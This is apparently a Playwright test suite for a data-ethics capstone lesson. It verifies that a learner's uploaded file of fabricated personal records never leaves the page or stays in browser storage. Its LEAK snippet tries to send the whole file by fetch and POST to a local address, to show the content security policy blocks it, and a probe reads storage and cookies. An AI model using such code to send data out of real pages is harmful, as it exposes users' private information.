"""A capstone on a file of secrets, from first step to last in its page: nothing of it leaves."""

from __future__ import annotations

import csv
import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, Page, Request

from tests.book.live import Step, open_page
from tests.browser import axe_violations

CAPSTONE = "lessons/your-own-data/capstone.html"
BOROUGHS = ("Halton", "Knowsley", "Liverpool", "Sefton", "St. Helens", "Wirral")
HEADS = ("full_name", "quillfeather_number", "email", "address", "note", "age", "borough", "asked")
HIDDEN = ("zebedee", "quillfeather", "qq12", "secret.example", "l8 9zz", "zqx")
OWN = {
    'gd.capstone("': 'work = gd.capstone("yes")\nprint(work.told)',
    "work.question(": """work.question(
        "Do people who come in the evening ask by telephone as often as others do?",
        for_whom="People who work by day and cannot come to our desk.",
        could_hurt="Somebody who is the only one from a small place.",
        would_change="Whether the desk stays open on Thursday evenings.")""",
    "work.inventory(": """work.inventory(
        record="D01", data_set="Visits to our desk", owner="Our centre", theme="advice",
        access="closed", places="Halton; Wirral", one_row_is="one visit",
        why_collected="to ring people back", who_is_not_in_it="anybody who never came",
        quality="checked in step three", refresh="every day", identifiers="an own number",
        standards="none")""",
    "gd.quality(": "checked = gd.quality(people)\nwork.show(checked)",
    "work.quality(": 'work.quality(checked, good_enough_for="Counting by place, and no more.")',
    "work.basis(": """work.basis("consent",
        because="Each person signed a form that says what the list is for.",
        special="None is in the list.", risk="Somebody is recognised", who="A visitor",
        likely="low", bad="medium", response="Only protected tables leave", left_over="A friend",
        not_acting="The desk stays shut when people could come", owner="ZZ")""",
    "gd.representation(": """reached = gd.count(people, by="borough", unit="visits")
found = gd.representation(reached, against=gd.residents(by="borough"))
work.show(found)""",
    "work.representation(": 'work.representation(found, cannot_tell="Who was never told of us.")',
    "gd.compare_rates(": """far = people["borough"].isin(["Wirral", "Halton"])
rang = people["asked"] == "by telephone"
two = gd.compare_rates((far & rang).sum(), far.sum(), (~far & rang).sum(), (~far).sum())
work.show(two)""",
    "work.analysis(": """work.analysis(two, baseline="Everybody who lives nearer",
        finding="These data cannot tell yet; in spring there will be twice as many.",
        not_for="Closing a desk in one place")""",
    "gd.protect(": """table = people.groupby(["borough", "asked"]).size().unstack(fill_value=0)
safe = gd.protect(table, threshold=10)
picture = gd.chart(found, title="Visits by place", alt="Ratios of six places, all near 1.")
work.show(picture)""",
    "work.output(": 'work.output(safe, pictures=[picture], also_public="Nothing else is.")',
    "gd.rewrite(": """board = ("We asked whether people from far away ring us as often as others. "
    "These data cannot tell. Please keep the telephone open in the evening for one winter, and "
    "look again in spring.")
gd.rewrite(board)""",
    "work.brief(": """people_say = ("Can you not come to our desk? You can ring us in the evening. "
    "We do not know yet how many of you would. Tell us which evening suits you best.")
work.brief({"the board": board, "visitors": people_say})""",
    "work.action(": """work.action("Ask the board for one evening", owner="ZZ",
        due="2999-01-31", for_whom="People who work by day")""",
    "work.mark(": 'work.mark("self", question="done well")\nwork.evidence()',
}
LEAK = """import js
js.fetch(f"ADDRESS/?{people.to_csv()}")
asking = js.XMLHttpRequest.new()
asking.open("POST", "ADDRESS", False)
asking.send(people.to_csv())"""
STORED = """async () => {
  const texts = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
  texts.push(document.cookie, JSON.stringify(await indexedDB.databases()));
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      texts.push(request.url);
      if (!request.url.includes("/python/")) texts.push(await (await cache.match(request)).text());
    }
  }
  return texts;
}"""


def secrets(folder: Path) -> Path:
    """Write a file in which every row, a column and the name itself can be recognised."""
    path = folder / "Quillfeather-visits.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write = csv.writer(file)
        write.writerow(HEADS)
        for n in range(600):
            who = (f"Zebedee Quillfeather {n}", f"QQ12{n:04}C", f"zeb{n}@secret.example")
            told = (f"{n} Secret Road, L8 9ZZ", f"told us zqx{n}", 18 + n % 70)
            write.writerow((*who, *told, BOROUGHS[n % 6], "by telephone" if n % 5 else "at desk"))
    return path


def told_in(text: str) -> list[str]:
    """Return which of the secrets stand in a text."""
    return [word for word in HIDDEN if word in text.casefold()]


def step_with(page: Page, code: str) -> Step:
    """Return the step of a page whose own code holds a text."""
    cells = page.locator(".cell").filter(has=page.locator(".cell_input pre", has_text=code))
    label = cells.locator("[role=group][aria-label^='Step ']").first.get_attribute("aria-label")
    assert label
    return Step(page, int(label.split()[-1]))


def saved(page: Page, within: Locator, name: str) -> Path:
    """Save a file that a step wrote, by its button, and return where the browser put it."""
    with page.expect_download() as download:
        within.get_by_role("button", name=f"Save the file {name}").click()
    assert download.value.suggested_filename == name
    return Path(download.value.path())


def sent(asked: list[Request]) -> list[str]:
    """Return all that was sent, as text: each request's address, headers and body."""
    return [
        f"{each.url} {each.all_headers()} {(each.post_data_buffer or b'').decode('latin-1')}"
        for each in asked
    ]


@pytest.fixture(scope="module")
def asked() -> list[Request]:
    return []


@pytest.fixture(scope="module")
def learner(
    browser: Browser, site: str, asked: list[Request], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Page]:
    """Somebody who chose a file of secrets, and did each step of the capstone on it."""

    def note(request: Request) -> None:
        asked.append(request)

    page = open_page(browser, "about:blank")
    page.context.on("request", note)
    page.goto(f"{site}/{CAPSTONE}")
    page.get_by_label("Choose your file").set_input_files(secrets(tmp_path_factory.mktemp("own")))
    for code, own in OWN.items():
        step = step_with(page, code)
        assert f"Step {step.number} ran." in step.run(own), (code, step.says())
    yield page
    page.context.close()


@pytest.mark.slow
def test_every_step_is_done_in_the_page_and_a_name_in_the_words_is_refused(learner: Page) -> None:
    opened = step_with(learner, "gd.own(").shows()
    assert 'Your file "Quillfeather-visits.csv" has 600 rows' in opened
    where = step_with(learner, "work.action(")
    assert "Step 9 of 9 is kept" in where.shows()
    assert "still to do" not in where.shows()
    asking = step_with(learner, "work.question(")
    kept = OWN["work.question("]
    said = asking.run(kept.replace("People who work", "Zebedee Quillfeather 7, who works"))
    assert "stands a value of your data that points to one row" in said
    assert asking.run(kept).startswith(f"Step {asking.number} ran.")
    assert axe_violations(learner) == []


@pytest.mark.slow
def test_what_the_page_lets_be_saved_holds_the_words_and_none_of_the_secrets(
    learner: Page, tmp_path: Path
) -> None:
    ending = learner.locator(step_with(learner, "work.mark(").cell)
    assert ending.locator("> .cell_output").inner_text().count("done well") == 1
    for form in ("html", "md"):
        evidence = saved(learner, ending, f"my-capstone-evidence.{form}").read_text("utf-8")
        assert "9 of 9 steps are done" in evidence
        assert "keep the telephone open in the evening" in " ".join(evidence.split())
        assert told_in(evidence) == []
    held = saved(learner, ending, "my-capstone.json").read_text("utf-8")
    assert len(json.loads(held)["steps"]) == 9
    assert told_in(held) == []
    action = learner.locator(step_with(learner, "work.action(").cell)
    assert told_in(saved(learner, action, "my-actions.csv").read_text("utf-8")) == []


@pytest.mark.slow
def test_another_day_it_goes_on_from_the_saved_file_and_the_first_days_are_kept(
    learner: Page, tmp_path: Path
) -> None:
    ending = learner.locator(step_with(learner, "work.mark(").cell)
    held = json.loads(saved(learner, ending, "my-capstone.json").read_text("utf-8"))
    for step in held["steps"].values():
        step["on"] = "2026-01-31"
    del held["steps"]["action"]
    before = tmp_path / "my-capstone (2).json"
    before.write_text(json.dumps(held), encoding="utf-8")
    learner.reload()
    learner.get_by_label("Choose your saved capstone file").set_input_files(before)
    began = step_with(learner, "gd.capstone(")
    assert began.run().startswith(f"Step {began.number} ran.")
    assert "It goes on where you stopped: 8 of 9 steps are there." in began.shows()
    again = step_with(learner, "work.question(")
    learner.get_by_label("Choose your file").set_input_files(secrets(tmp_path))
    assert again.run().startswith(f"Step {again.number} ran.")
    after = json.loads(
        saved(learner, learner.locator(again.cell), "my-capstone.json").read_text("utf-8")
    )
    assert after == held
    again.press(f"Undo my changes to step {again.number}")  # so it stands in another browser
    assert again.run().startswith(f"Step {again.number} ran.")
    assert "stays as you kept it, in your words: this cell holds Kemi's" in again.shows()


@pytest.mark.slow
def test_nothing_of_the_file_left_the_page_or_stayed_in_the_browser(
    learner: Page, site: str, asked: list[Request]
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        address = f"http://127.0.0.1:{elsewhere.getsockname()[1]}"
        told = step_with(learner, "gd.own(").run(LEAK.replace("ADDRESS", address))
        assert "NetworkError" in told
        with pytest.raises(BlockingIOError):  # nobody knocked
            elsewhere.accept()
    refused = [each for each in asked if each.failure == "csp"]
    assert [each.url for each in refused] == [f"{address}/"]
    log = sent([each for each in asked if each not in refused])
    assert len(log) > 20
    assert all(line.startswith((site, "blob:", "data:")) for line in log)
    assert [line for line in log if told_in(line)] == []
    assert [text[:80] for text in learner.evaluate(STORED) if told_in(text)] == []
